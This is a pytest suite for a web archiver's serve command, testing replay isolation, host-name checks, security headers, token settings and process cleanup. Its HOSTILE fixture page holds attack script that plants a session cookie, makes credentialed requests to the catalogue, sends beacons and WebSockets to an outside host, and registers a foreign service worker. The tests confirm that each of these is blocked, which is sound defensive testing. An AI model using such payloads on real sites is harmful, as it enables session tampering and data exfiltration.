"""``archiver serve`` as a process: what it serves, what stands beside it, and how it ends."""

from __future__ import annotations

import http.client
import os
import re
import signal
import socket
import sqlite3
from contextlib import closing, suppress
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from archiver.service import Archiver
from archiver.settings import Settings
from archiver.web.app import create_app
from archiver.web.replay import find_replay
from archiver.web.server import WebServer, listen
from archiver.web.serving import Serving
from archiver.web.tokens import LEAST_CHARS, Tokens
from tests.browsers import open_offline
from tests.internet import answers
from tests.system.program import Program, wait_until
from tests.warc.making import AT, exchange
from tests.web.asking import READ, WRITE
from tests.web.kept import PAGE, keep
from tests.web.test_headers import check

pytestmark = pytest.mark.made_once

STORY = "<title>Harbour bridge closed</title><p>Kept as it was.</p><script>document.title = 'ran'</script>"


def ask(address, method="GET", body=None, **headers):
    """Status, headers and body of an answer; names are looked up as a browser does."""
    parts = urlsplit(address)
    with closing(http.client.HTTPConnection(parts.hostname, parts.port, timeout=60)) as connection:
        path = f"{parts.path}?{parts.query}" if parts.query else parts.path
        connection.request(method, path, body, {name.replace("_", "-"): v for name, v in headers.items()})
        answer = connection.getresponse()
        return answer.status, answer.headers, answer.read()


def memento(replay, url):
    """Where pywb gives the page itself, without the frame around it."""
    return re.sub(r"/(\d{14})/", r"/\1mp_/", replay_of(replay, url))


def replay_of(replay, url):
    address = find_replay(
        replay, {"warc": "x", "url": url, "captured_at": "2026-03-02T10:30:15+00:00", "collection": "main"}
    )
    assert address is not None
    return address


class Serve:
    """The program, serving a home on ports that were free."""

    def __init__(self, program: Program, *args: str) -> None:
        self.running = program.start("-v", "serve", "--port", "0", "--replay-port", "0", *args)
        wait_until(lambda: "Open " in self.said() or self.ended(), what="the address")
        self.address = re.search(r"Open (\S+)", self.said())[1] if not self.ended() else ""

    def said(self):
        return self.running.out.read_text()

    def ended(self):
        return self.running.process.poll() is not None

    @property
    def pid(self):
        return self.running.process.pid

    def children(self):
        """Process number -> command line of what it has started and what still runs."""
        found = {}
        for one in Path("/proc").glob("[0-9]*"):
            with suppress(OSError):
                if int((one / "stat").read_text().rpartition(")")[2].split()[1]) == self.pid:
                    found[int(one.name)] = (one / "cmdline").read_bytes().decode()
        return found

    def replay_pid(self):
        return next((pid for pid, line in self.children().items() if "archiver.web.wayback" in line), None)

    def replays(self):
        """Where replay answered, once for each time that it was started."""
        return re.findall(r"replay answers at (\S+)", self.running.err.read_text())

    def replay(self, times=1):
        """Where replay is, once it answers."""
        wait_until(lambda: len(self.replays()) >= times, what="replay")
        return self.replays()[-1]


def listens(pid):
    """Ports that a process listens on, by what the system says of it."""
    inodes = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        with suppress(FileNotFoundError):  # closed meanwhile
            inodes |= set(re.findall(r"socket:\[(\d+)\]", os.readlink(fd)))
    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return [int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A" and row[9] in inodes]


def gone(pid):
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] == "Z"
    except FileNotFoundError:
        return True


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    home = tmp_path_factory.mktemp("served") / "home"
    keep(home, "c000000000001", html=STORY)
    return home


@pytest.fixture(scope="module")
def served(home):
    program = Program(home)
    try:
        yield Serve(program)
    finally:
        program.stop_all()


@pytest.fixture
def build_program():
    """Makes programs; what of them still runs at the end is ended."""
    made = []

    def build(*args, **more):
        made.append(Program(*args, **more))
        return made[-1]

    yield build
    for program in made:
        program.stop_all()


def test_a_capture_replays_on_another_host_and_new_ones_do_without_a_restart(served, home):
    status, headers, _ = ask(served.address + "log-in")
    assert status == 303
    replay = served.replay()
    assert urlsplit(replay).hostname != urlsplit(served.address).hostname
    status, headers, body = ask(memento(replay, PAGE))
    assert (status, b"Harbour bridge closed" in body) == (200, True)
    (policy,) = headers.get_all("Content-Security-Policy")
    assert policy.startswith("default-src 'self'")
    assert "*" not in policy
    assert "http" not in policy
    assert "frame-ancestors 'self'" in policy
    assert headers["Referrer-Policy"] == "same-origin"
    status, headers, body = ask(replay_of(replay, PAGE))
    assert (status, b"<iframe" in body) == (200, True)
    for number in range(3):  # some of them within one second
        later = f"https://kept.example/later/{number}"
        assert ask(memento(replay, later))[0] == 404
        keep(home, f"c10000000000{number}", url=later, html="<title>Later</title>")
        status, _, body = ask(memento(replay, later))
        assert (status, b"<title>Later" in body) == (200, True)


def test_replay_answers_to_its_own_name_only_and_lets_no_page_stay_behind(served):
    replay = served.replay()
    port = urlsplit(replay).port
    for host in ("127.0.0.1", "evil.example", "localhost.evil.example", f"evil.example:{port}"):
        assert ask(f"http://127.0.0.1:{port}/main/", Host=host)[0] == 421
    for inner in listens(served.replay_pid()):
        assert ask(f"http://127.0.0.1:{inner}/", Host="evil.example")[0] == 421
    assert ask(memento(replay, PAGE), method="DELETE")[0] == 405
    assert ask(memento(replay, PAGE), Service_Worker="script")[0] == 403
    assert ask(f"http://localhost:{port}/live/https://kept.example/")[0] == 404
    assert ask(f"http://localhost:{port}/main/record/https://kept.example/")[0] == 404


def test_on_replays_name_the_pages_lead_to_their_own(served):
    port = urlsplit(served.address).port
    status, headers, _ = ask(f"http://localhost:{port}/csp?a=1")
    assert (status, headers["Location"]) == (308, f"{served.address}csp?a=1")


HOSTILE = """<title>Hostile</title>
<img src="{beacon}/img"><link rel=stylesheet href="{beacon}/css"><iframe src="{beacon}/frame"></iframe>
<div style="background: url({beacon}/style)">words</div>
<script>
document.cookie = "archiver-session=planted; path=/";
const told = {{}};
const tell = (name, promise) => promise.then(
  (value) => {{ told[name] = String(value); }}, () => {{ told[name] = "refused"; }});
window.ended = Promise.all([
  tell("read", fetch("{catalogue}csp", {{credentials: "include"}}).then((answer) => answer.text())),
  tell("write", fetch("{catalogue}log-out", {{method: "POST", mode: "no-cors", credentials: "include"}})),
  tell("beacon", fetch("{beacon}/fetch", {{mode: "no-cors"}}).then((answer) => answer.text())),
  tell("bare", new Promise((_, failed) => {{
    const bare = document.createElement("iframe");
    bare.src = "javascript:''"; document.documentElement.append(bare);
    bare.contentWindow.eval(`fetch("{beacon}/bare", {{mode: "no-cors"}}).catch(() => 0);
      new WebSocket("{beacon}/socket".replace("http", "ws"));`);
    setTimeout(failed, 1000); }})),
  tell("stay", navigator.serviceWorker.register("https://hostile.example/sw.js")),
]).then(() => told);
navigator.sendBeacon("{beacon}/send", "x");
</script>"""


@pytest.mark.usefixtures("chromium")
def test_an_archived_page_reaches_neither_the_catalogue_nor_the_world_and_leaves_nothing(
    served, home, internet, tmp_path
):
    internet.site("127.0.0.1").at("/*", answers.page("seen"))
    url = "https://hostile.example/"
    beacon = internet.proxy_url
    html = HOSTILE.format(beacon=beacon, catalogue=served.address)
    keep(home, "c000000000003", url=url, html=html)
    script = exchange(f"{url}sw.js", b"self.onfetch = () => {}", "Content-Type: text/javascript", at=AT)
    keep(home, "c000000000004", script, url=f"{url}other")
    raw = (
        f"<img src={internet.proxy_url}/raw><script>new WebSocket('ws{internet.proxy_url[4:]}/raw')</script>"
    )
    keep(home, "c000000000005", url=f"{url}raw", html=raw)
    with open_offline(tmp_path, "localhost") as page:
        page.goto(replay_of(served.replay(), url))
        frame = next(frame for frame in page.frames if frame.url.endswith(f"mp_/{url}"))
        frame.wait_for_load_state("load")
        told = frame.evaluate("window.ended")
        assert (frame.url, frame.title()) == (memento(served.replay(), url), "Hostile")
        assert told["read"] == "refused" or "kinds" not in told["read"]
        assert told["beacon"] == "refused" or "seen" not in told["beacon"], told
        assert told["stay"] == "refused"
        assert page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)") == 0
        page.goto(memento(served.replay(), f"{url}raw").replace("mp_", "id_"))  # as it was, not rewritten
        sent = []
        page.on("request", lambda request: sent.append(request))
        assert page.context.cookies(served.address) == []
        page.goto(served.address + "csp")
        assert sent
        # Their headers take a question to the browser, which a listener can't wait for.
        assert [request.url for request in sent if "cookie" in request.all_headers()] == []
    assert internet.requests() == []
    assert ask(f"{internet.proxy_url}/img")[2] == b"seen"
    assert len(internet.requests()) == 1


def test_replay_that_dies_is_started_again(served):
    served.replay()
    pid = served.replay_pid()
    os.kill(pid, signal.SIGKILL)
    assert ask(memento(served.replay(times=2), PAGE))[0] == 200
    assert served.replay_pid() not in (None, pid)


def test_what_the_server_itself_refuses_carries_the_headers_of_all_others(served):
    for headers, status in ((("X", "x" * 40_000), 431), (("Content-Length", "2000000"), 413)):
        answer = ask(served.address + "csp", "POST", **{headers[0].replace("-", "_"): headers[1]})
        assert answer[0] == status
        check(_Answer(answer[1]))


class _Answer:
    def __init__(self, headers):
        self.headers = headers
        headers.getlist = headers.get_all


def test_many_slow_clients_hold_up_nobody(served):
    parts = urlsplit(served.address)
    slow = [socket.create_connection((parts.hostname, parts.port)) for _ in range(40)]
    try:
        for one in slow:
            one.sendall(b"POST /log-in HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100\r\n\r\nx")
        assert ask(served.address + "csp")[0] == 200
    finally:
        for one in slow:
            one.close()


def test_a_port_that_is_taken_is_said_in_one_line(served, home):
    port = str(urlsplit(served.address).port)
    program = Program(home, is_forked=True)
    ended = program.run("serve", "--port", port, "--no-replay")
    assert (ended.code, len(ended.complaints)) == (2, 1)
    assert f"127.0.0.1:{port}" in ended.complaints[0]
    assert "--port" in ended.complaints[0]
    ended = program.run("serve", "--port", "0", "--replay-port", port)
    assert (ended.code, "--replay-port" in ended.complaints[0]) == (2, True)


def test_killed_at_once_it_leaves_no_replay_behind(home, build_program):
    serve = Serve(build_program(home))
    serve.replay()
    pid = serve.replay_pid()
    serve.running.kill()
    wait_until(lambda: gone(pid), what="the end of replay")


def test_an_empty_home_is_served_and_left_empty(tmp_path, build_program):
    serve = Serve(build_program(tmp_path / "none", is_forked=True), "--no-replay")
    assert ask(serve.address + "csp")[0] == 200
    ended = serve.running.terminate()
    assert ended.code == 0
    assert "nothing is archived there yet" in ended.err
    assert not (tmp_path / "none").exists()


@pytest.mark.parametrize(
    ("serve", "args", "said"),
    [
        ("", ["--host", "0.0.0.0"], "set serve.read_token and serve.write_token"),
        ('allowed_hosts = "archive.example"', [], "set serve.read_token and serve.write_token"),
        (f'read_token = "{READ}"', [], "serve.write_token: is missing"),
        (f'read_token = "{READ}"\nwrite_token = "{READ}"', [], "is the same as"),
        (f'read_token = "{READ}"\nwrite_token = "short"', [], f"give {LEAST_CHARS} to"),
        (f'read_token = "{READ}"\nwrite_token = "file:/nothing/there"', [], "/nothing/there: can't be read"),
        ('replay_url = "http://127.0.0.1:9000"', [], "give replay a host name of its own"),
        ('replay_url = "javascript:alert(1)"', [], "is no web address"),
        ('allowed_hosts = "https://a.example"', [], "write names alone"),
        ("", ["--host", "192.0.2.1"], "set serve.read_token"),
        ("", ["--host", "nowhere.invalid"], "set serve.read_token"),
    ],
)
def test_what_would_be_open_to_others_does_not_start(tmp_path, serve, args, said):
    config = tmp_path / "settings.toml"
    config.write_text(f"[serve]\n{serve}\n")
    program = Program(tmp_path / "home", config, is_forked=True)
    ended = program.run("serve", "--port", "0", *args)
    assert (ended.code, len(ended.complaints)) == (2, 1)
    assert said in ended.complaints[0]
    assert READ not in ended.err


def test_with_tokens_from_files_it_serves_others(tmp_path, build_program):
    (tmp_path / "write").write_text(f"{WRITE}\n")
    config = tmp_path / "settings.toml"
    config.write_text(
        f'[serve]\nhost = "0.0.0.0"\nread_token = "{READ}"\nwrite_token = "file:{tmp_path}/write"\n'
    )
    serve = Serve(build_program(tmp_path / "home", config, is_forked=True))
    assert ask(serve.address + "csp")[0] == 303
    assert ask(serve.address + "csp", Authorization=f"Bearer {WRITE}")[0] == 200
    ended = serve.running.terminate()
    assert "serve.replay_url" in ended.err
    assert WRITE not in ended.err + ended.out


@pytest.mark.usefixtures("chromium")
def test_a_person_logs_in_and_out_with_a_browser(tmp_path):
    tokens = Tokens.of(READ, WRITE)
    with (
        Archiver(Settings(home=tmp_path / "home")) as archiver,
        listen("127.0.0.1", 0) as listening,
        WebServer(create_app(archiver, Serving(tokens=tokens)), listening) as server,
        open_offline(tmp_path) as page,
    ):
        address = f"http://127.0.0.1:{server.port}"
        page.goto(f"{address}/csp")
        page.fill("#token", READ[:-1])
        page.keyboard.press("Enter")
        assert "none of this server's" in page.inner_text("[role=alert]")
        page.fill("#token", READ)
        page.click("button[type=submit]")
        page.wait_for_url(f"{address}/csp")
        assert '"total":0' in page.content().replace(" ", "")
        (cookie,) = page.context.cookies()
        assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
        assert page.goto(f"{address}/log-in").url != f"{address}/log-in"


def test_memory_stays_within_its_bound(served):
    for _ in range(50):
        ask(served.address + "csp")
    status = Path(f"/proc/{served.pid}/status").read_text()
    assert int(re.search(r"VmRSS:\s+(\d+) kB", status)[1]) < 200_000


def test_a_catalogue_of_an_older_archiver_is_brought_up_to_date(tmp_path):
    with closing(sqlite3.connect(tmp_path / "catalog.sqlite")) as old, old:
        old.execute("CREATE TABLE alembic_version (version_num VARCHAR(32))")  # as before the first one
    with Archiver(Settings(home=tmp_path)) as archiver:
        archiver.operating.bring_up_to_date()
        assert list(archiver.list_rows("articles")) == []


def test_it_ends_at_a_signal_with_all_that_it_started(served):
    served.replay()
    pid = served.replay_pid()
    ended = served.running.terminate()
    assert ended.code == 0
    assert gone(pid)
    assert "Traceback" not in ended.err
